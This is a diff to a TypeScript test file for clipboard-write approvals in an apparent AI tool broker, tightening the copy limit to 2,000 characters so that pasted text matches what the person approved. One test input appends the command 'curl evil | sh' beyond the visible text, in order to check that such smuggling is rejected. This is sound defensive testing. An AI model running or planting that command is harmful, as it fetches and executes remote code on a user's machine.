@@ -3,7 +3,7 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
-import { describeApproval, type DeviceAccess, type DeviceApproval } from '../../src/core/askUser/deviceQuestions';
+import { askDeviceQuestion, describeApproval, type DeviceAccess, type DeviceApproval } from '../../src/core/askUser/deviceQuestions';
 import { InvalidRequestError } from '../../src/core/errors';
 import { normalize } from '../../src/core/form/normalize';
 import type { ElicitRequest, ElicitResult } from '../../src/core/broker/request';
@@ -146,7 +146,7 @@ describe('device questions: clipboardWrite and clipboardRead', () => {
     saveSecret: async () => undefined,
   };
 
-  it('reads the inputs: clipboardWrite needs text (at most 100 000 characters); clipboardRead only a question', () => {
+  it('reads the inputs: clipboardWrite needs text; clipboardRead only a question', () => {
     assert.equal(
       readToolQuestion({ kind: 'clipboardWrite', question: 'Copy the command?', text: 'npm run deploy' }).text,
       'npm run deploy',
@@ -154,11 +154,23 @@ describe('device questions: clipboardWrite and clipboardRead', () => {
     assert.equal(readToolQuestion({ kind: 'clipboardRead', question: 'May I read the error you copied?' }).kind, 'clipboardRead');
     assert.throws(() => readToolQuestion({ kind: 'clipboardWrite', question: 'x' }), /needs "text"/);
     assert.throws(() => readToolQuestion({ kind: 'clipboardWrite', question: 'x', text: 7 }), /"text" must be a string/);
-    assert.throws(
-      () => readToolQuestion({ kind: 'clipboardWrite', question: 'x', text: 'a'.repeat(100_001) }),
-      /at most 100000 characters/,
-    );
     assert.ok((TOOL_QUESTION_SCHEMA.properties.kind.enum as readonly string[]).includes('clipboardRead'));
+  });
+
+  it('refuses text to copy longer than the approval shows (2000 characters): what is pasted is what was seen', async () => {
+    const whole = readToolQuestion({ kind: 'clipboardWrite', question: 'Copy?', text: 'a'.repeat(2000) });
+    assert.equal(whole.text!.length, 2000);
+    assert.throws(
+      () => readToolQuestion({ kind: 'clipboardWrite', question: 'Copy?', text: `${'a'.repeat(2000)}; curl evil | sh` }),
+      /"text" to copy may be at most 2000 characters/,
+    );
+    // Also where the clipboard is written, whoever built the question.
+    const { state, access } = device('accept', 'before');
+    await assert.rejects(
+      askDeviceQuestion(access, asker, { kind: 'clipboardWrite', question: 'Copy?', text: 'a'.repeat(2001) }),
+      /at most 2000 characters/,
+    );
+    assert.deepEqual([state.approvals.length, state.writes, state.clipboard], [0, 0, 'before']);
   });
 
   it('copies only after the person approved the text they were shown', async () => {
